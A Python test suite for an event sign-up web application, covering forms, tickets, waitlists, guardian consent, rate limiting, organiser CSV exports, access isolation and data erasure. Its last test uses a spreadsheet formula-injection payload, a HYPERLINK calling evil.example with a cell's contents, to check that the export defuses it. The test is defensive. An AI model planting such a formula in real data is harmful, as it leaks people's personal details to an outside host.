"""The sign-up form, the thank-you page, tickets, consent, and staff views of sign-ups."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from starlette.applications import Starlette

from events.app import create_app
from events.models import Event, Registration, RegistrationStatus
from events.settings import Settings
from tests import factories
from tests.web.helpers import post_form, sign_in, soup

YEAR = datetime.now(UTC).year


@pytest.fixture
async def event(client: httpx.AsyncClient) -> Event:
    org = await factories.organisation(slug="samen")
    venue = await factories.venue(org)
    await factories.organiser(org, email="inge@example.org")
    await factories.host(org, [venue], email="fatima@example.org")
    return await factories.event(venue, slug="avond", places_young=1, places_older=5)


def form(**changes: str) -> dict[str, str]:
    data = {"first_name": "Ana", "email": "ana@example.org", "birth_year": str(YEAR - 20)}
    data.update(changes)
    return data


async def submit(client: httpx.AsyncClient, data: dict[str, str]) -> httpx.Response:
    return await post_form(client, "/events/avond/signup", data, form_page="/events/avond")


async def test_form_has_right_input_types_and_labels(
    client: httpx.AsyncClient, event: Event
) -> None:
    html = soup(await client.get("/events/avond"))
    email = html.find("input", attrs={"name": "email"})
    assert email["type"] == "email" and email["autocomplete"] == "email"
    assert html.find("input", attrs={"name": "birth_year"})["inputmode"] == "numeric"
    assert html.find("input", attrs={"name": "first_name"})["autocomplete"] == "given-name"
    for field in html.select("form input:not([type=hidden]), form select"):
        assert html.find("label", attrs={"for": field["id"]}), field


async def test_sign_up_then_thanks_without_revealing_known_addresses(
    client: httpx.AsyncClient, event: Event
) -> None:
    first = await submit(client, form())
    assert first.status_code == 303 and first.headers["location"] == "/events/avond/thanks"
    thanks_new = (await client.get("/events/avond/thanks")).text
    second = await submit(client, form(first_name="Ana"))
    assert second.status_code == 303
    thanks_again = (await client.get("/events/avond/thanks")).text
    strip = [line for line in thanks_new.splitlines() if "csrf_token" not in line]
    assert strip == [line for line in thanks_again.splitlines() if "csrf_token" not in line]
    assert "a***@example.org" in thanks_new
    assert await Registration.filter(event_id=event.id).count() == 1


async def test_bad_input_keeps_what_was_typed(client: httpx.AsyncClient, event: Event) -> None:
    response = await submit(client, form(email="not-an-email", birth_year="nineteen"))
    assert response.status_code == 422
    html = soup(response)
    assert html.find(id="f-email")["aria-invalid"] == "true"
    assert html.find(id="f-birth_year")["aria-invalid"] == "true"
    assert html.find(id="f-first_name")["value"] == "Ana"
    assert await Registration.all().count() == 0


async def test_full_group_joins_waitlist_and_ticket_says_so(
    client: httpx.AsyncClient, event: Event
) -> None:
    await submit(client, form())
    await submit(client, form(first_name="Bo", email="bo@example.org"))
    bo = await Registration.get(first_name="Bo")
    assert bo.status == RegistrationStatus.WAITLISTED
    page = await client.get(f"/tickets/{bo.code}")
    assert page.status_code == 200
    assert soup(page).select_one(".ticket-status.status-waitlisted")
    assert not soup(page).select_one(".qr-code svg")  # no QR code for a waiting place


async def test_ticket_page_qr_print_and_cancel(client: httpx.AsyncClient, event: Event) -> None:
    await submit(client, form())
    ana = await Registration.get(first_name="Ana")
    page = await client.get(f"/tickets/{ana.code}")
    html = soup(page)
    assert html.select_one(".qr-code svg")
    assert html.select_one(".code-letters").text.replace(" ", "") == ana.code
    assert html.find("a", href=f"/events/{event.slug}/event.ics")
    assert html.find("a", href=f"/tickets/{ana.code}/print")
    feed = html.find("input", attrs={"readonly": True, "type": "url"})
    assert feed and "/feeds/" in feed["value"]
    printed = await client.get(f"/tickets/{ana.code}/print")
    assert printed.status_code == 200 and soup(printed).select_one(".a6 .paper-qr svg")
    asked = await post_form(
        client, f"/tickets/{ana.code}/cancel", {}, form_page=f"/tickets/{ana.code}"
    )
    assert asked.status_code == 200
    await ana.refresh_from_db()
    assert ana.status == RegistrationStatus.CONFIRMED  # one tap by mistake cancels nothing
    cancel = await post_form(
        client, f"/tickets/{ana.code}/cancel", {"confirm": "yes"}, form_page=f"/tickets/{ana.code}"
    )
    assert cancel.status_code == 303
    await ana.refresh_from_db()
    assert ana.status == RegistrationStatus.CANCELLED
    assert (await client.get("/tickets/NOSUCHCODE")).status_code == 404


async def test_guardian_consent_pages(client: httpx.AsyncClient, event: Event) -> None:
    await submit(
        client, form(birth_year=str(event.starts_at.year - 14), guardian_email="mam@example.org")
    )
    kid = await Registration.get(first_name="Ana")
    assert kid.status == RegistrationStatus.AWAITING_GUARDIAN and kid.guardian_token
    page = await client.get(f"/consent/{kid.guardian_token}")
    assert page.status_code == 200
    yes = await post_form(
        client, f"/consent/{kid.guardian_token}", {}, form_page=f"/consent/{kid.guardian_token}"
    )
    assert yes.status_code == 303
    await kid.refresh_from_db()
    assert kid.status == RegistrationStatus.CONFIRMED and kid.guardian_consent_at
    assert (await client.get("/consent/guessed-token")).status_code == 404


async def test_sign_ups_are_rate_limited_per_address(settings: Settings, tmp_path: Path) -> None:
    app: Starlette = create_app(settings.but(signup_rate_limit=2))
    async with app.router.lifespan_context(app):
        org = await factories.organisation()
        venue = await factories.venue(org)
        await factories.event(venue, slug="druk", places_young=50)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
            codes = []
            for n in range(3):
                response = await post_form(
                    http,
                    "/events/druk/signup",
                    form(email=f"p{n}@example.org"),
                    form_page="/events/druk",
                )
                codes.append(response.status_code)
            assert codes == [303, 303, 429]
            assert int(response.headers["retry-after"]) > 0
            assert soup(response).select_one(".notice-error")


async def test_assisted_sign_up_by_a_host_ends_on_the_ticket(
    client: httpx.AsyncClient, event: Event
) -> None:
    await sign_in(client, "fatima@example.org")
    response = await post_form(
        client,
        f"/host/events/{event.id}/register",
        {"first_name": "Gerrit", "group": "older", "needs": "hearing"},
        form_page=f"/host/events/{event.id}/register",
    )
    assert response.status_code == 303
    gerrit = await Registration.get(first_name="Gerrit")
    assert response.headers["location"] == f"/tickets/{gerrit.code}/print"
    assert gerrit.needs == ["hearing"]
    printed = await client.get(response.headers["location"])
    assert soup(printed).find("a", href=f"/host/events/{event.id}/register")
    assert gerrit.status == RegistrationStatus.CONFIRMED and gerrit.email is None
    assert gerrit.source == "assisted"


async def test_organiser_list_csv_and_actions(client: httpx.AsyncClient, event: Event) -> None:
    await submit(client, form())
    await submit(client, form(first_name="Bo", email="bo@example.org"))
    await sign_in(client, "inge@example.org")
    page = await client.get(f"/organise/events/{event.id}/registrations")
    assert page.status_code == 200 and "Bo" in page.text
    export = await client.get(f"/organise/events/{event.id}/registrations.csv")
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["Ana", "Bo"]
    bo = await Registration.get(first_name="Bo")
    await post_form(
        client, f"/organise/registrations/{bo.id}/promote_over", {}, form_page="/organise/"
    )
    await bo.refresh_from_db()
    assert bo.status == RegistrationStatus.CONFIRMED


async def test_other_organisation_cannot_see_or_touch_sign_ups(
    client: httpx.AsyncClient, event: Event
) -> None:
    await submit(client, form())
    other = await factories.organisation()
    await factories.organiser(other, email="other@example.org")
    await sign_in(client, "other@example.org")
    ana = await Registration.get(first_name="Ana")
    for path in (
        f"/organise/events/{event.id}/registrations",
        f"/organise/events/{event.id}/registrations.csv",
    ):
        assert (await client.get(path)).status_code == 404
    response = await post_form(
        client,
        f"/organise/registrations/{ana.id}/cancel",
        {"confirm": "yes"},
        form_page="/organise/",
    )
    assert response.status_code == 404
    await ana.refresh_from_db()
    assert ana.status == RegistrationStatus.CONFIRMED


async def test_participant_downloads_and_erases_own_data(
    client: httpx.AsyncClient, event: Event
) -> None:
    await submit(client, form())
    ana = await Registration.get(first_name="Ana")
    data = await client.get(f"/tickets/{ana.code}/my-data")
    assert data.status_code == 200 and data.json()["email"] == "ana@example.org"
    refused = await post_form(
        client, f"/tickets/{ana.code}/erase", {}, form_page=f"/tickets/{ana.code}"
    )
    assert refused.status_code == 422
    await ana.refresh_from_db()
    assert ana.first_name == "Ana"
    erased = await post_form(
        client, f"/tickets/{ana.code}/erase", {"confirm": "yes"}, form_page=f"/tickets/{ana.code}"
    )
    assert erased.status_code == 200
    await ana.refresh_from_db()
    assert (ana.first_name, ana.email) == ("", None)
    assert (await client.get(f"/tickets/{ana.code}/my-data")).status_code == 404


async def test_staff_cannot_open_an_existing_ticket_by_registering_its_email(
    client: httpx.AsyncClient, event: Event
) -> None:
    await submit(client, form())
    ana = await Registration.get(first_name="Ana")
    await sign_in(client, "fatima@example.org")
    response = await post_form(
        client, f"/host/events/{event.id}/register",
        {"first_name": "Someone", "group": "young", "email": "ana@example.org"},
        form_page=f"/host/events/{event.id}/register",
    )  # fmt: skip
    assert response.status_code == 409
    assert ana.code not in response.text and "location" not in response.headers
    assert await Registration.filter(event_id=event.id).count() == 1
    # A host is not an organiser: the /organise/ address of the same form is refused.
    assert (await client.get(f"/organise/events/{event.id}/register")).status_code == 404


async def test_csv_export_defuses_formulas_in_names(
    client: httpx.AsyncClient, event: Event
) -> None:
    await submit(client, form(first_name='=HYPERLINK("http://evil.example/?"&B2,"x")'))
    await sign_in(client, "inge@example.org")
    export = await client.get(f"/organise/events/{event.id}/registrations.csv")
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&B2,"x")'
